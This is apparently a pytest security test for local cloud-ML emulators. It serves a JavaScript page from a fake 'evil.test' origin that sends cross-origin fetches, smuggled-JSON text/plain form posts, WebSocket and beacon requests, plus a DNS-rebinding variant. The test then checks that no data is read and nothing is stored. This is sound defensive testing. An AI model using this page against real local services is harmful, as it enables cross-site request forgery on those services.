"""A web page in a browser that attacks emulators: it runs nothing and reads nothing."""

from __future__ import annotations

import contextlib
import http.server
import json
import os
import shutil
import subprocess
import threading
from collections.abc import Iterator, Mapping
from pathlib import Path
from typing import Any

import pytest
from emulator_requests import address, requests_to
from late import LATE

if LATE:
    pytest.importorskip("moto")
    pytest.importorskip("google.cloud.aiplatform")
    pytest.importorskip("azure.ai.ml")
    import boto3


PAGE = """<!doctype html><body><script>
const attacks = %s, seen = {};
async function attempt(name, url, options) {
  try {
    const answer = await fetch(url, options);
    seen[name] = answer.type === "opaque" ? "opaque" : "read " + answer.status + " " + (await answer.text()).slice(0, 60);
  } catch (error) { seen[name] = error.name; }
}
function form(url, name, value) {
  const frame = document.createElement("iframe"), made = document.createElement("form");
  frame.name = "frame" + Math.random(); document.body.append(frame);
  made.method = "post"; made.action = url; made.enctype = "text/plain"; made.target = frame.name;
  const input = document.createElement("input"); input.name = name; input.value = value;
  made.append(input); document.body.append(made);
  return new Promise(done => { frame.onload = done; made.submit(); setTimeout(done, 3000); });
}
function image(url) {
  return new Promise(done => { const made = new Image(); made.onload = made.onerror = done; made.src = url; });
}
function socket(url) {
  return new Promise(done => {
    try { const made = new WebSocket(url.replace(/^http/, "ws")); made.onopen = () => { seen["socket " + url] = "open"; done(); }; made.onerror = done; }
    catch (error) { done(); }
  });
}
(async () => {
  await Promise.all(attacks.map(async ({url, method, headers, body}) => {
    const data = method === "GET" ? undefined : body;
    await attempt("cors " + method + " " + url, url, {method, headers, body: data});
    await attempt("simple " + method + " " + url, url, {method: method === "PUT" ? "POST" : method, mode: "no-cors", body: data});
    await attempt("credentials " + url, url, {method: "POST", mode: "no-cors", credentials: "include", body: body});
    await attempt("read " + url, url);
    if (method !== "GET") await form(url, body.slice(0, -1) + ',"x":"', '"}');
    await image(url);
    await socket(url);
    navigator.sendBeacon(url, body);
  }));
  await fetch("/report", {method: "POST", body: JSON.stringify(seen)});
})();
</script></body>"""


class _Attacker(http.server.ThreadingHTTPServer):
    """Serves the page of an attack, and takes its report; what else it is asked it keeps, as a server without our rule."""

    daemon_threads = True

    def __init__(self) -> None:
        self.page, self.report, self.asked = "", "", list[tuple[str, str, str]]()
        self.reported = threading.Event()
        super().__init__(("127.0.0.1", 0), _Handler)


class _Handler(http.server.BaseHTTPRequestHandler):
    server: _Attacker

    def do_GET(self) -> None:
        self._answer(self.server.page if self.path == "/" else "")

    def do_POST(self) -> None:
        body = self.rfile.read(int(self.headers["Content-Length"] or 0)).decode(errors="replace")
        self.server.asked.append((self.headers["Host"], self.path, body))
        self._answer("")
        if self.path == "/report":
            self.server.report = body
            self.server.reported.set()

    def _answer(self, text: str) -> None:
        self.send_response(200)
        self.send_header("Content-Type", "text/html")
        self.send_header("Content-Length", str(len(text.encode())))
        self.end_headers()
        self.wfile.write(text.encode())

    def log_message(self, *_: Any) -> None:
        """Says nothing."""


@contextlib.contextmanager
def attacker() -> Iterator[_Attacker]:
    with _Attacker() as server:
        thread = threading.Thread(target=server.serve_forever, args=[0.02])
        thread.start()
        try:
            yield server
        finally:
            server.shutdown()
            thread.join()


def test_a_page_in_a_browser_runs_nothing_and_reads_nothing(emulators: Mapping[str, Any], tmp_path: Path) -> None:
    program = next(filter(None, map(shutil.which, ("chromium", "chromium-browser", "google-chrome"))), None)
    assert program is not None, "install chromium: this test is not to be left out"
    ran = tmp_path / "attack"
    ran.mkdir()
    calls, stored = {name: dict(emulator.calls) for name, emulator in emulators.items()}, _stored(emulators)
    with attacker() as page, attacker() as victim:
        attacks = []
        for emulator in emulators.values():
            for method, path, headers, body in requests_to(emulator, ran):
                attacks.append(
                    {"url": f"{address(emulator)}{path}", "method": method, "headers": headers, "body": body}
                )
            method, path, headers, body = requests_to(emulator, ran)[0]
            rebound = f"{address(emulator)}{path}".replace("127.0.0.1", "evil.test")
            attacks.append({"url": rebound, "method": method, "headers": headers, "body": body})
        attacks.append({"url": f"http://127.0.0.1:{victim.server_port}/reached", "method": "POST", "headers": {}, "body": "{}"})  # fmt: skip
        page.page = PAGE % json.dumps(attacks)
        with browser(program, f"http://evil.test:{page.server_port}/", tmp_path / "profile"):
            assert page.reported.wait(180), "the page did not come to its end"
    seen = json.loads(page.report)
    assert not [name for name, what in seen.items() if what.startswith(("read", "open"))], seen
    assert [asked for asked in victim.asked if asked[1] == "/reached"], (
        "the attack does reach a server without the rule"
    )
    assert {name: dict(emulator.calls) for name, emulator in emulators.items()} == calls
    assert not list(ran.iterdir())
    assert _stored(emulators) == stored


def _stored(emulators: Mapping[str, Any]) -> list[Any]:
    """What the storages of the emulators hold."""
    s3 = boto3.client("s3", **emulators["sagemaker"].of_client)
    objects = s3.list_objects_v2(Bucket=emulators["sagemaker"].bucket).get("Contents", [])
    files = [path for name in ("vertex", "azureml") for path in emulators[name].folder.rglob("*") if path.is_file()]
    return [[(each["Key"], each["LastModified"]) for each in objects], [(path, path.stat().st_mtime) for path in files]]


@contextlib.contextmanager
def browser(program: str, url: str, profile: Path) -> Iterator[None]:
    """A browser at an address, which knows ``evil.test`` as a name of this machine, and nothing beyond it."""
    quiet = (
        "no-sandbox", "disable-gpu", "disable-quic", "no-first-run", "disable-background-networking", "disable-dev-shm-usage",
        "disable-component-update", "disable-sync", "disable-default-apps", "disable-extensions", "ignore-certificate-errors",
    )  # fmt: skip
    rules = "MAP evil.test 127.0.0.1, MAP * ~NOTFOUND, EXCLUDE 127.0.0.1"
    words = [program, "--headless", *(f"--{each}" for each in quiet), f"--host-resolver-rules={rules}", f"--user-data-dir={profile}"]  # fmt: skip
    process = subprocess.Popen(
        [*words, "--remote-debugging-port=0", url], stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL,
        stdin=subprocess.DEVNULL, start_new_session=True, env={**os.environ, "HOME": str(profile)},
    )  # fmt: skip
    try:
        yield
    finally:
        os.killpg(process.pid, 9)
        process.wait()
